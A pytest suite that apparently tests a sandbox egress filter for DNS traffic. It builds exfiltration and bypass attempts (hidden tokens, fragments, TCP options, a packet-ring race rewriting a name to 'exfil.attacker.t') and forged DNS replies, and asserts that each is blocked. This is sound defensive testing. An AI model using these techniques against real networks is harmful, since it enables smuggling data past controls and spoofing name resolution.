# SPDX-License-Identifier: MIT
"""
Rows 38 to 50 of the netdev kind: who is inside makes frames itself, and may take the resolver's address. What leaves towards
a resolver is a plain question for a name of the policy; what is learned comes from the other end of the device.
"""

import socket
import struct

import dnswire
import packets
import pytest
from attack import assert_arrive, assert_silent, assert_stopped
from cell import Cell, new_tokens
from crafted import RESOLVER4, RESOLVER6, STRANGER4
from dnsrows import GOOD, OFF
from internet import ALLOWED4, DENIED4, PORT, canary
from netns import shell
from packets import ACK, PSH, SYN, UDP
from postern import tool
from test_gate_messages import BAD
from wait import until

FORGED, TRUE = "93.184.38.66", "93.184.38.77"
NAMED = {"allowOut": [f"{GOOD}:{PORT}", f"*.wild.example.com:{PORT}", f"{ALLOWED4}:{PORT}"], "denyOut": ["0.0.0.0/0"]}


@pytest.fixture(scope="module")
def asking(net, warden):
    """Somebody whose policy is names: a free one beside it."""
    with Cell(net) as free, Cell(net) as named:
        named.attach(warden, NAMED)
        yield free, named


def leases(cell):
    return {one["address"] for one in cell.box.daemon.get(f"/v1/sandboxes/{cell.box.id}/leases").json["leases"]}


def ask(cell, question, port=9100, resolver=RESOLVER4):
    return cell.udp(resolver, question, 53, port)


def reached(net, since):
    """Payloads of what reached the resolvers' addresses since then, by whatever protocol."""
    found = []
    for frame in net.sniffer.frames[since:]:
        if frame.dst is not None and str(frame.dst) in (RESOLVER4, RESOLVER6):
            found.append(frame)
    return found


@pytest.mark.parametrize("resolver", [RESOLVER4, RESOLVER6])
def test_messages_that_are_no_plain_question(net, dns, asking, resolver):
    free, named = asking
    frames = {name: ask(free, payload, resolver=resolver) for name, payload in BAD.items() if len(payload) < 1400}
    since = net.mark()
    free.send(*frames.values())
    until(lambda: {f.payload for f in reached(net, since)} >= {BAD[name] for name in frames}, "the control arrives")
    net.fence()
    since = net.mark()
    named.send(*[ask(named, BAD[name], resolver=resolver) for name in frames])
    named.fence()
    assert not reached(net, since)


# ---- the shape of what carries it ----

def padded(**lies):
    """A question that may pass, and the token somewhere around it. lies: udp, ip: what is added to the lengths."""
    def make(cell, token):
        question = dnswire.query(GOOD, 0x4242) + lies.get("inside", b"")
        size = 8 + len(question) + lies.get("udp", 0)
        body = struct.pack("!HHHH", 9101, 53, size, 0) + question + token
        return cell.frame(packets.ip4(cell.addr4, RESOLVER4, UDP, body, **{key: value for key, value in (
            ("length", 20 + len(body) if lies.get("whole") else 28 + len(question) + lies.get("ip", 0)),)}))
    return make


def by_tcp(flags, data_of):
    return lambda cell, token: cell.tcp(RESOLVER4, flags, data_of(token), ports=(9102, 53))


def in_pieces(cell, token):
    body = packets.udp_body(cell.addr4, RESOLVER4, 9103, 53, dnswire.query(f"{token.decode()}.{OFF}"))
    cut = 16
    return [cell.frame(packets.ip4(cell.addr4, RESOLVER4, UDP, body[:cut], fragment=packets.MF)),
            cell.frame(packets.ip4(cell.addr4, RESOLVER4, UDP, token + body[cut:], fragment=cut // 8))]


def two_questions(cell, token):
    name = dnswire.question(GOOD)
    return ask(cell, dnswire.header(1, 0x0100, (2, 0, 0, 0)) + name + dnswire.question(f"{token.decode()}.{OFF}"))


def tcp_message(token):
    message = dnswire.query(f"{token.decode()}.{OFF}")
    return struct.pack("!H", len(message)) + message


SHAPES = {
    "behind-the-datagram": padded(whole=True),
    "behind-the-message": lambda cell, token: ask(cell, dnswire.query(GOOD) + token),
    "behind-the-message-counted": lambda cell, token: ask(cell, dnswire.query(GOOD, counts=(1, 0, 0, 1)) + token),
    "two-questions": two_questions,
    "in-fragments": in_pieces,
    "tcp-syn-with-it": by_tcp(SYN, tcp_message),
    "tcp-without-a-connection": by_tcp(ACK | PSH, tcp_message),
    "tcp-in-an-option": lambda cell, token: cell.tcp(RESOLVER4, SYN, ports=(9102, 53), options=b"\xfd\x19" + token),
    "stranger": lambda cell, token: ask(cell, dnswire.query(f"{token.decode()}.wild.example.com"), resolver=STRANGER4),
    "port-853": lambda cell, token: cell.udp(RESOLVER4, token, 853),
    "port-443": lambda cell, token: cell.tcp(RESOLVER4, SYN, token, ports=(9102, 443)),
    "port-5353": lambda cell, token: cell.udp(RESOLVER4, dnswire.query(f"{token.decode()}.wild.example.com"), 5353),
    "echo": lambda cell, token: cell.frame(packets.echo(cell.addr4, RESOLVER4, 3, token)),
    "from-port-53": lambda cell, token: ask(cell, dnswire.query(f"{token.decode()}.{OFF}"), port=53),
    "as-an-answer": lambda cell, token: ask(cell, dnswire.query(f"{token.decode()}.{OFF}", flags=0x8180), port=53),
    "off-the-list": lambda cell, token: ask(cell, dnswire.query(f"{token.decode()}.{OFF}")),
    "off-the-list-6": lambda cell, token: ask(cell, dnswire.query(f"{token.decode()}.{OFF}"), resolver=RESOLVER6),
}


def test_shapes_in_which_a_question_may_come(dns, asking):
    free, named = asking
    assert_stopped(free, named, SHAPES)


def test_a_plain_question_passes(net, dns, asking):
    """The control of both."""
    _, named = asking
    # A name that carries the token: below a wildcard of the policy.
    assert_arrive(named, {str(n): lambda cell, token, r=resolver: ask(
        cell, dnswire.query(f"{token.decode()}.wild.example.com"), resolver=r, port=9110) for n, resolver in enumerate(
            (RESOLVER4, RESOLVER6))})


def test_a_question_that_changes_after_it_was_judged(net, dns, asking):
    """In the ring of a packet socket the sender goes on writing: the name that was judged is the name that is asked."""
    free, named = asking
    token, = new_tokens(1)
    good = f"{token.decode()}.wild.example.com"
    off = good[:-len("wild.example.com")] + "exfil.attacker.t"
    assert len(good) == len(off)

    def turned(cell):
        since = net.mark()
        frames = [ask(cell, dnswire.query(name, 0x4243), port=9104) for name in (good, off)]
        frames = [f[:40] + b"\0\0" + f[42:] for f in frames]
        done = cell.run(tool("ring", "eth0", 8000, *[f.hex() for f in frames]))
        assert done.code == 0, done
        cell.fence()
        payloads = [f.payload for f in reached(net, since)]
        right = dnswire.query(good, 0x4243)
        return sum(p == right for p in payloads), sum(p != right for p in payloads)
    for _ in range(5):
        won = turned(free)[1]
        if won:
            break
    assert won, "the control never won the race"
    count, other = turned(named)
    assert count and not other, (count, other)


# ---- answers that come from inside ----

def reply_frame(cell, question, address, *, src=RESOLVER4, port=9105, dst_mac=None, source_mac=None, **where):
    """As the resolver would answer, made inside."""
    asked = dnswire.Question(question)
    payload = asked.reply([dnswire.address(dnswire.QNAME, address)])
    packet = packets.udp(src, where.get("dst", cell.addr4), 53, port, payload)
    return packets.ether(dst_mac or cell.gate_mac, source_mac or cell.mac, packets.IPV4, packet)


@pytest.fixture
def fresh(net, warden):
    with Cell(net) as cell:
        cell.attach(warden, NAMED)
        yield cell


def test_an_answer_from_the_other_end_is_learned(net, dns, fresh):
    """The control of all below."""
    dns.answer = lambda asked: [asked.reply([dnswire.address(dnswire.QNAME, TRUE)])]
    fresh.send(ask(fresh, dnswire.query(GOOD, 0x5151), port=9105))
    until(lambda: TRUE in leases(fresh), "it is learned")
    assert_arrive(fresh, {"udp": lambda cell, token: cell.tcp(TRUE, SYN, token)})


@pytest.mark.parametrize("where", ["host", "itself", "broadcast"])
def test_a_reply_made_inside_is_no_reply(net, dns, fresh, where):
    """The question is under way and unanswered; who asked answers it, by way of the host and without."""
    question = dnswire.query(GOOD, 0x5252)
    fresh.send(ask(fresh, question, port=9105))
    dns.await_asked(lambda asked: asked.txid == 0x5252 and asked.client == fresh.addr4)
    mac = {"host": fresh.gate_mac, "itself": fresh.mac, "broadcast": packets.BROADCAST}[where]
    for dst in (fresh.addr4, fresh.gate4, ALLOWED4):
        fresh.send(reply_frame(fresh, question, FORGED, dst_mac=mac, dst=dst))
        fresh.send(reply_frame(fresh, question, FORGED, dst_mac=mac, dst=dst, source_mac=fresh.gate_mac))
        fresh.send(reply_frame(fresh, question, FORGED, dst_mac=mac, dst=dst, src=fresh.addr4))
    fresh.fence()
    assert not leases(fresh)
    assert_silent(fresh, {"tcp": lambda cell, token: cell.tcp(FORGED, SYN, token)})
    # And the true one still counts: what was forged has not used up the question.
    dns.send(dnswire.udp(RESOLVER4, 53, fresh.addr4, 9105, dnswire.Question(question).reply(
        [dnswire.address(dnswire.QNAME, TRUE)])))
    until(lambda: leases(fresh) == {TRUE}, "the true answer is learned")


def test_the_resolvers_address_on_its_own_lo(net, dns, fresh):
    """Its own server answers its own client: nothing of it crosses the device, nothing of it is learned."""
    fresh.captive.ip("addr", "add", f"{RESOLVER4}/32", "dev", "lo")

    def talk():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server, \
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            server.bind((RESOLVER4, 53))
            client.settimeout(3)
            client.sendto(dnswire.query(GOOD), (RESOLVER4, 53))
            data, peer = server.recvfrom(512)
            server.sendto(dnswire.Question(data).reply([dnswire.address(dnswire.QNAME, FORGED)]), peer)
            return client.recv(512)
    assert socket.inet_aton(FORGED) in fresh.call(talk)
    assert not leases(fresh)
    assert_silent(fresh, {"tcp": lambda cell, token: cell.tcp(FORGED, SYN, token)})


def test_the_resolvers_address_in_a_namespace_behind_it(net, dns, fresh):
    """A resolver of its own, one hop further inside: its answer comes over a device of the captive's, not over the host's."""
    name = fresh.captive.name
    fresh.captive.ip("link", "add", "in9", "type", "veth", "peer", "out9")
    for device, address in (("in9", "10.98.0.1/24"), ("out9", f"{RESOLVER4}/32")):
        fresh.captive.ip("addr", "add", address, "dev", device)
        fresh.captive.ip("link", "set", device, "up")
    assert shell("ip", "-n", name, "route", "get", RESOLVER4).startswith("local")
    token = canary()
    fresh.call(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(token.encode(), (RESOLVER4, 53)))
    fresh.fence()
    assert not net.seen(token=token) and not leases(fresh)


def test_another_sandbox_cannot_answer(net, dns, bridged, segment, warden):
    """On the same bridge: a sandbox beside it has every frame it asked with, and answers first."""
    _, held, _ = bridged
    with Cell(net, segment) as victim:
        victim.attach(warden, NAMED)
        question = dnswire.query(GOOD, 0x5353)
        victim.send(ask(victim, question, port=9105))
        dns.await_asked(lambda asked: asked.txid == 0x5353 and asked.client == victim.addr4)
        for source_mac in (held.mac, held.gate_mac):
            held.send(reply_frame(victim, question, FORGED, dst_mac=victim.mac, source_mac=source_mac))
        held.fence()
        victim.fence()
        assert not leases(victim)


def test_lease_addresses_take_only_the_names_ports(net, dns, fresh):
    """Learned is an address for a name: its other ports, and other protocols, are shut."""
    dns.answer = lambda asked: [asked.reply([dnswire.address(dnswire.QNAME, TRUE)])]
    fresh.send(ask(fresh, dnswire.query(GOOD, 0x5454), port=9105))
    until(lambda: TRUE in leases(fresh), "it is learned")
    assert_silent(fresh, {
        "other-port": lambda cell, token: cell.tcp(TRUE, SYN, token, ports=(9000, PORT + 1)),
        "port-53": lambda cell, token: cell.udp(TRUE, token, 53),
        "echo": lambda cell, token: cell.frame(packets.echo(cell.addr4, TRUE, 3, token)),
        "next-address": lambda cell, token: cell.tcp(TRUE[:-1] + "8", SYN, token),
        "denied": lambda cell, token: cell.tcp(DENIED4, SYN, token),
    })
